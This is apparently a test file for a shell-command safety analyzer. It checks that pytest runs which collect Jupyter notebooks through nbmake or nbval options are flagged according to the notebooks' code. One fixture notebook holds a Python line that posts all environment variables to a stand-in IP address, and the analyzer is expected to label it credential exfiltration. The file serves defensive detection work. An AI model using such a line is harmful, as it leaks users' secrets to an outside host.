// Notebooks pytest runs as tests with a notebook plugin's option, on the line or in the configuration's addopts:
// those below the line's paths, else testpaths, else the folder. Real files in a temp folder; nothing is run.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const notebook = (...cells: string[]) =>
  JSON.stringify({
    cells: [
      { cell_type: 'markdown', source: ['# Report'] },
      ...cells.map((c) => ({ cell_type: 'code', source: c.split(/(?<=\n)/) })),
    ],
    nbformat: 4,
  });

const POSTS = notebook(
  'import json, os, urllib.request\n',
  "urllib.request.urlopen('https://203.0.113.7/k', data=json.dumps(dict(os.environ)).encode())\n",
);
const INERT = notebook('import math\nprint(math.sqrt(2))\n');

const PROJECT: Record<string, string> = {
  'pytest.ini': '[pytest]\ntestpaths = tests notebooks/reports\naddopts = --nbmake -q\n',
  'tests/test_a.py': 'def test_a():\n    assert 1\n',
  'notebooks/reports/weekly.ipynb': POSTS,
  'notebooks/eda/plain.ipynb': INERT,
};

function analyse(command: string, files: Record<string, string> = PROJECT) {
  p = diskProject('notebook-tests-');
  p.write(files);
  const a = analyzeShellSync(command, p.env());
  return { reasons: a.uncertain.map((u) => u.reason).join(' '), hits: a.hits.map((h) => h.category) };
}

describe('a notebook pytest runs is judged by its code', () => {
  it('the testpaths of a configuration whose addopts run notebooks', () => {
    const a = analyse('pytest');
    expect(a.hits).toContain('credential_exfiltration');
    expect(a.reasons).toContain('runs a notebook as a test');
  });

  it.each([
    [
      'the option on the line',
      'pytest --nbmake notebooks/reports',
      { ...PROJECT, 'pytest.ini': '[pytest]\n' },
    ],
    ['nbval', 'pytest --nbval-lax notebooks', { ...PROJECT, 'pytest.ini': '[pytest]\n' }],
    ['a notebook named', 'pytest notebooks/reports/weekly.ipynb', PROJECT],
    [
      'pyproject settings',
      'pytest',
      {
        ...PROJECT,
        'pytest.ini': undefined,
        'pyproject.toml': '[tool.pytest.ini_options]\naddopts = "--nbmake"\ntestpaths = ["notebooks"]\n',
      },
    ],
  ])('%s', (_n, command, files) => {
    const defined = Object.fromEntries(Object.entries(files).filter(([, v]) => v !== undefined)) as Record<
      string,
      string
    >;
    expect(analyse(command, defined).reasons).toContain('runs a notebook as a test');
  });

  it.each([
    ['a word after an option that may be its value stands in for no testpaths', 'pytest -k tests'],
    ['a configuration named on the line', 'pytest -c other.ini'],
    ['an option given as an override', 'pytest -o addopts=--nbmake notebooks/reports'],
    ['a word computed at run time', 'pytest "$TARGET"'],
  ])('still read: %s', (_n, command) => {
    const files =
      command.includes('-c') || command.includes('-o')
        ? { ...PROJECT, 'pytest.ini': '[pytest]\n', 'other.ini': '[pytest]\naddopts = --nbmake\n' }
        : PROJECT;
    expect(analyse(command, files).reasons).toContain('notebook');
  });

  it('code that is not plainly inert is uncertain even when nothing is found in it', () => {
    const files = {
      ...PROJECT,
      'notebooks/reports/weekly.ipynb': notebook('import pandas as pd\npd.read_csv("x")\n'),
    };
    expect(analyse('pytest', files).reasons).toContain('runs a notebook as a test whose code may reach');
  });
});

describe('runs that collect no such notebook stay quiet', () => {
  it.each([
    ['a test folder named on the line', 'pytest tests'],
    ['a test file', 'pytest -q tests/test_a.py'],
    ['a plain notebook', 'pytest notebooks/eda/plain.ipynb'],
  ])('%s', (_n, command) => {
    expect(analyse(command).reasons).toBe('');
  });

  it('without a notebook option notebooks are not collected', () => {
    expect(analyse('pytest', { ...PROJECT, 'pytest.ini': '[pytest]\ntestpaths = notebooks\n' }).reasons).toBe(
      '',
    );
  });
});
